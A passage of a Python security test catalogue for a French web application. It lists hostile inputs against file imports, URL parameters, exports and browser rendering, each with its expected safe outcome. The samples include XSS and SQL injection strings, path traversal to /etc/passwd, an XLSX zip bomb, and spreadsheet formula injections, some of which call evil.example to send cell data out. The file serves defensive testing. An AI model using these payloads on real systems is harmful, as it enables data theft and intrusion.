     message=textes.IMPORT_ENCODAGE.format(fichier="utf16.csv"), options=IND)
case("N07", N, "CSV in UTF-8 with one invalid byte", "refused, the line is named", "fichier_refuse",
     lambda: ("casse.csv", "code;libelle;valeur\r\n47;Été;1\r\n".encode() + b"24;\xff;2\r\n"),
     message=textes.HOSTILE_IND_UTF8_CASSE.format(fichier="casse.csv", ligne=3), options=IND)
case("N08", N, "CSV with a NUL byte in one cell", "that row invalid (NUL byte named), the other imported", "lignes",
     lambda: ("nul.csv", b"code;valeur\r\n47;1\x00\r\n24;2\r\n"), counts=(2, 1, 1), options=IND)
case("N09", N, "INSEE-like CSV with 10,000 columns", "refused at once", "fichier_refuse",
     lambda: ("10000-colonnes.csv", csv_bytes([["CODGEO"] + [f"P21_V{i}" for i in range(9999)], ["47167"] + ["1"] * 9999],
                                                "utf-8")),
     message=textes.HOSTILE_IND_TROP_DE_COLONNES.format(fichier="10000-colonnes.csv", max=2000), options=IND)
case("N10", N, "CSV over 50 MB", "refused at once", "fichier_refuse",
     lambda: ("gros.csv", b"code;valeur\r\n" + b"47;1\r\n" * (10 * MB)),
     message=textes.IMPORT_TROP_GROS.format(fichier="gros.csv", mo=50), options=IND)
case("N11", N, "XLSX bomb (300 MB once inflated)", "refused before inflating", "fichier_refuse",
     lambda: ("bombe.xlsx", bomb_xlsx(300)),
     message=textes.HOSTILE_IND_ZIP.format(fichier="bombe.xlsx", message=textes.HOSTILE_ZIP_TROP_GROS.format(max=200)),
     options=IND)
case("N12", N, "XLSX with formula cells", "cached values read, formulas never run", "lignes",
     lambda: ("formules.xlsx", xlsx_bytes([["code", "libelle", "valeur"], ["47", Formula('HYPERLINK("x";"y")', "y"), Formula("1+1", 2)],
                                           ["24", "Dordogne", Formula("1/0", "#DIV/0!")], ["33", "Gironde", Formula("2*3")]])),
     counts=(3, 2, 1), options=IND)
case("N13", N, "XLSX with a cell in column XFD", "refused at once", "fichier_refuse",
     lambda: ("xfd.xlsx", xlsx_bytes(sheet=sheet_xml([(1, [(1, "code"), (2, "valeur"), (16384, "x")]), (2, [(1, "47"), (2, 1)])]))),
     message=textes.HOSTILE_IND_TROP_DE_COLONNES.format(fichier="xfd.xlsx", max=2000), options=IND)
case("N14", N, "XLSX with broken XML", "refused: unreadable", "fichier_refuse",
     lambda: ("casse.xlsx", xlsx_bytes(sheet=SHEET_OPEN + "<sheetData><row r='1'><c r='A1'")),
     message=textes.HOSTILE_IND_XLSX_ILLISIBLE.format(fichier="casse.xlsx"), options=IND)
case("N15", N, "Observatoire CSV with a 4 MB title line, a 1,000-character column and a 4 MB label", "names and labels capped at 200 characters, row imported", "lignes",
     lambda: ("libelle.csv", csv_bytes([["T" * (4 * MB)], ["codgeo", "libgeo", "V" * 1000], ["47", "L" * (4 * MB), "1"]], "utf-8")),
     counts=(1, 1, 0), options={"unite": "nombre", "millesime": "2024", "niveau": "departement"})

# URL query parameters (every page) -------------------------------------------------------------------
U = "url"
ALL_KEYS = URL_KEYS
case("U01", U, "parameters 10 MB long (digits, then letters)", "ignored (capped), page shown", "ignore",
     lambda: [{"id": ten_megabytes("9"), "numero": ten_megabytes("9")}, {"code": ten_megabytes("A"), "texte": ten_megabytes("A")}])
case("U02", U, "every parameter repeated 60 times, valid and invalid values mixed", "ignored or one value taken",
     "ignore", lambda: [{k: ["<x>", "1", "47", "commune:47167", "-1"] * 12 for k in ALL_KEYS},
                        {k: ["1", "<x>"] * 30 for k in ALL_KEYS}])
case("U03", U, "<script>alert(1)</script> and \"><svg onload=alert(1)> in every parameter", "ignored, never rendered as HTML",
     "ignore", lambda: each(["<script>alert(1)</script>", '"><svg onload=alert(1)>']))
case("U04", U, "SQL: ' OR 1=1 --, 1; DROP TABLE actions, UNION SELECT", "treated as text or ignored, 0 extra rows",
     "ignore", lambda: each(["' OR 1=1 --", "1; DROP TABLE actions", "1 UNION SELECT * FROM comptes"]))
case("U05", U, "path traversal ../../etc/passwd, %2e%2e%2f, NUL-terminated, Windows paths", "ignored", "ignore",
     lambda: each(["../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "/etc/passwd\x00.png", "C:\\Windows\\win.ini"]))
case("U06", U, "unicode: superscript ², Arabic-Indic ٣, 𝟙, emoji, RTL override, zero-width, NFD", "ignored",
     "ignore", lambda: each(["²", "٣", "𝟙", "🗺️", "\u202e12", "1\u200b2", "e\u0301"]))
case("U07", U, "numbers: 5,000 digits, -1, 0, 1e309, NaN, inf, 0x1A, +3, blanks", "ignored", "ignore",
     lambda: each(["9" * 5000, "-1", "0", "1e309", "NaN", "inf", "0x1A", "+3", " 3 "]))
case("U08", U, "NUL, CR/LF, escape sequences and %00 in every parameter", "ignored", "ignore",
     lambda: each(["1\x00", "\r\n", "%00", "\x1b[31m1"]))
case("U09", U, "plausible but unknown: id 999999999999, fiche 27, commune:99999, 100 codes, unknown indicator",
     "French « not found » messages", "ignore",
     lambda: [{"id": "999999999999", "numero": "27", "code": "commune:99999", "codes": ",".join(["departement:47"] * 100),
              "brouillon": "999999", "action": "999999", "indicateur": "inexistant", "niveau": "planete",
              "classes": "toutes", "departement": "99", "fiche": ["27", "0"], "annee_min": "3000", "annee_max": "1000"}])
case("U10", U, "200 unknown parameters, a <script> key and a 1,000-character key", "ignored", "ignore",
     lambda: [{**{f"inconnu{i}": "x" for i in range(200)}, "<script>alert(1)</script>": "x", "k" * 1000: "v"}])

# Exports --------------------------------------------------------------------------------------------------
E = "export"
FORMULA_TEXTS = (
    '=HYPERLINK("http://evil.example/?d="&A1;"clic")', "=cmd|' /C calc'!A0", "+1+1 | Centre social", "-2+3 habitants",
    "@SUM(1;1)", "=1+1", "=IMPORTXML(CONCAT(\"http://evil.example/?\";A1);\"//a\")",
)
case("E01", E, "CSV export of actions whose texts start with = + - @ (and had tab/CR prefixes)",
     "every such cell starts with a quote; negative longitudes stay numbers", "neutralise", lambda: FORMULA_TEXTS)
case("E02", E, "XLSX export of the same actions", "openpyxl reads strings, never formulas; numbers stay numbers",
     "neutralise", lambda: FORMULA_TEXTS)
case("E03", E, "GeoJSON export of HTML/JS and formula texts", "the JSON holds the texts as typed (no quote added)",
     "neutralise", lambda: FORMULA_TEXTS)
case("E04", E, "CSV export re-imported", "the same actions (already present), quotes removed, nothing lost",
     "neutralise", lambda: FORMULA_TEXTS)
case("E05", E, "rejected-rows CSV of a file with formula ids and titles", "neutralised too", "neutralise",
     lambda: FORMULA_TEXTS)
case("E06", E, "exports of emoji, RTL, NUL-cleaned and 3,000-character texts", "identical after a round trip",
     "neutralise", lambda: ("Jardin 🌱 حديقة", "R" * 2999))

# Browser -------------------------------------------------------------------------------------------------
B = "navigateur"
case("B01", B, "title <img src=x onerror=alert(1)> (map popup, table, action page, guide)", "shown as text, 0 dialogs",
     "inerte", lambda: BROWSER_PAYLOADS[0])
case("B02", B, "summary and title <script>alert(2)</script>", "shown as text, 0 dialogs", "inerte",
     lambda: BROWSER_PAYLOADS[1])
case("B03", B, 'title and porteurs "><svg onload=alert(3)>', "shown as text, 0 dialogs", "inerte",
     lambda: BROWSER_PAYLOADS[2])
case("B04", B, "title and source title `${alert(4)}` (template-literal breakout)", "shown as text, 0 dialogs",
     "inerte", lambda: BROWSER_PAYLOADS[3])
case("B05", B, "source address javascript:alert(5) in the seed file", "refused at load (file, line and field named); "
     "an address already in the database is never a link", "inerte", lambda: BROWSER_PAYLOADS[4])
case("B06", B, "porteurs and source titles with <iframe>, <a onclick>, <math>/<style> mutation XSS", "shown as text",
     "inerte", lambda: "<math><mtext><table><mglyph><style><img src=x onerror=alert(9)>")
case("B07", B, "moderation queue and review of a submitted hostile action", "shown as text, 0 dialogs", "inerte",
     lambda: BROWSER_PAYLOADS[0])
case("B08", B, "imported indicator whose name, unit and source carry <img onerror>, `${…}` and <svg onload>",
     "map legend and indicator catalogue show them as text, 0 dialogs", "inerte", lambda: BROWSER_PAYLOADS[0])
case("B09", B, "garbage addresses in the real browser (<script> in ?texte=, <img> in ?id=, <svg> in ?code=)",
     "pages show their French message, 0 dialogs", "inerte", lambda: BROWSER_PAYLOADS[1])

CASES: tuple[Case, ...] = tuple(C)
BY_ID = {c.id: c for c in CASES}


def of(channel: str) -> list[Case]:
    """The cases of one channel."""
    return [c for c in CASES if c.channel == channel]


def sizes() -> dict[str, int]:
    """Number of cases per channel."""
    return {channel: len(of(channel)) for channel in CHANNELS}
